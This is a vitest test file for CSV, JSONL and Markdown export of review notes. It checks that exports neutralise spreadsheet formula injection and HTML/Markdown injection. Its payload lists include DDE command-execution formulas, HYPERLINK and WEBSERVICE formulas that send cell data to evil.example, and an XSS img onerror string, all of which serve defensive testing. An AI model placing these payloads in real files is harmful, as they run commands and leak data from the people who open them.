import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, guarded, notesCsv, unguarded } from '@/lib/notes/csv'
import { fenced, inlineCode, notesMarkdown } from '@/lib/notes/markdown'
import { notesJsonl } from '@/lib/notes/jsonl'
import { NOTE_COLUMNS, type Note } from '@/lib/notes/note'

const NOTE: Note = {
  id: 'f-1', permalink: '/transcripts/abc#m3', suite: 'sab-v2', model: 'acme/helper-1', model_name: 'helper-1', case: 'cancel_1', case_title: 'Cancel', case_kind: 'solvable', run: 'r-7f', trial: 1, message: 3, role: 'agent', call: 'c2',
  quote: null, before: null, text: 'Done.', after: null, other_places: null, tag: 'confirm-skipped', tag_name: 'confirm skipped', polarity: 'weakness', severity: 'major', fault: 'agent', root: null, note: 'Cancels, and "at once".',
  correct_behaviour: null, quotable: null, status: 'confirmed', source: 'reviewer', author: 'ana@example.com', at: '2026-07-02T10:00:00Z', updated_at: null, outcome: 'passed', judge: 'acme/judge-2', judge_score: 74, judge_rationale: 'Resolved.',
  review_status: 'reviewed', review_depth: 'full',
}

async function* of(...notes: Note[]): AsyncGenerator<Note> {
  yield* notes
}

async function text(pieces: AsyncGenerator<string>): Promise<string> {
  let whole = ''
  for await (const piece of pieces) whole += piece
  return whole
}

/** A strict reader of RFC 4180. */
function readCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < csv.length) {
    let cell = ''
    if (csv[at] === '"') {
      at++
      for (;;) {
        const end = csv.indexOf('"', at)
        if (end === -1) throw new Error('a quoted cell does not end')
        cell += csv.slice(at, end)
        at = end + 1
        if (csv[at] !== '"') break
        cell += '"'
        at++
      }
    } else {
      const end = csv.slice(at).search(/[,\r\n"]/)
      cell = csv.slice(at, at + (end === -1 ? csv.length : end))
      at += cell.length
    }
    row.push(cell)
    if (csv[at] === ',') at++
    else if (csv.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else throw new Error(`what is ${JSON.stringify(csv.slice(at, at + 5))}?`)
  }
  return rows
}

const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/?"&A1,"x")', '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")',
  '=IMAGE("http://evil.example")', '=DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0", '"=1+1"', '";=1+1', ',=1+1', ';=1+1', '\uff1d1+1', '\ufe621', '\u22121+1', '\u200b=1+1', '\ufeff=1+1', '%0A=1+1', '=1+1\\u0000', '{=1+1}', "'=1+1", '-inf',
]
const HARMLESS = ['2026-07-02', '1-2', '12345678901234567890', '00123', 'TRUE', 'SEP1', 'a, b; c', "it's = fine", 'say "hi"', 'two\nlines', 'x'.repeat(40_000)]

describe('notes as CSV', () => {
  it.each(FORMULAS)('sets an apostrophe before %j, and takes it away again', (payload) => {
    expect(guarded(payload)).toMatch(/^'/)
    expect(unguarded(guarded(payload))).toBe(payload)
  })

  it.each(FORMULAS)('guards %j after a line break, a tab and a semicolon inside a cell', (payload) => {
    for (const before of ['a\n', 'a\r\n', 'a\t', 'a;']) {
      expect(guarded(before + payload)).not.toMatch(/(?:^|[\n\t;]|\r(?!\n))["\p{Cf} ,{]*[=+\-@%\uff1d\ufe62\u2212]/u)
      expect(unguarded(guarded(before + payload))).toBe(before + payload)
    }
  })

  it.each(HARMLESS)('leaves %j as it is', (text) => {
    expect(guarded(text)).toBe(text)
  })

  it('leaves numbers numbers', () => {
    expect([csvCell(-5), csvCell(3.2e4), csvCell(0.5), csvCell(true), csvCell(null)]).toEqual(['-5', '32000', '0.5', 'true', ''])
  })

  it('gives every text back exactly', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', "'", '"', ' ', '\n', '\r', '\t', ';', ',', 'a', '\u200b', '\uff1d', '{')
    fc.assert(fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => { expect(unguarded(guarded(pieces.join('')))).toBe(pieces.join('')) }), { seed: 20261122, numRuns: 2000 })
  })

  it('is read back by a strict reader, every formula in every text column', async () => {
    const textColumns = NOTE_COLUMNS.filter((column) => typeof NOTE[column] === 'string' || NOTE[column] === null)
    const notes = [...FORMULAS, ...HARMLESS].map((payload) => ({ ...NOTE, ...Object.fromEntries(textColumns.map((column) => [column, payload])) }))
    const rows = readCsv(await text(notesCsv(of(...notes))))
    expect(rows).toHaveLength(notes.length + 1)
    expect(rows[0]).toEqual([...NOTE_COLUMNS])
    for (const [index, note] of notes.entries()) {
      expect(rows[index + 1]?.map(unguarded)).toEqual(NOTE_COLUMNS.map((column) => (note[column] === null ? '' : String(note[column]))))
    }
  })
})

describe('notes as JSONL', () => {
  it('gives one note a line, keys in order, line separators escaped', async () => {
    const lines = (await text(notesJsonl(of({ ...NOTE, note: 'a\u2028b\ud800' }, NOTE)))).split('\n')
    expect(lines).toHaveLength(3)
    expect(Object.keys(JSON.parse(lines[0] ?? ''))).toEqual([...NOTE_COLUMNS])
    expect(lines[0]).toContain('a\\u2028b\\ud800')
    expect(JSON.parse(lines[1] ?? '')).toEqual(NOTE)
  })
})

describe('notes as Markdown', () => {
  it('fences a text with more backticks than it holds', () => {
    expect(fenced('a\n````\n<script>')).toBe('`````\na\n````\n<script>\n`````')
    expect(inlineCode('`x`')).toBe('`` `x` ``')
  })

  it('leaves nothing of a person or a model outside code', async () => {
    const hostile = '</code><img src=x onerror=X> [c](javascript:X) ![a](https://evil.example/x.png) `\n# h\n```\n<https://evil.example>'
    const note = { ...NOTE, model: hostile, case: hostile, tag_name: hostile, author: hostile, quote: hostile, note: hostile, judge_rationale: hostile, text: hostile }
    const outside = (await text(notesMarkdown(of(note)))).replace(/^(`{3,})\n[^]*?\n\1$/gm, '').replace(/(?<!`)(`+)(?!`)[^]*?[^`]\1(?!`)/g, '')
    expect(outside).not.toMatch(/[<>![\]()]/)
    expect(outside).toContain('- model: ')
  })
})
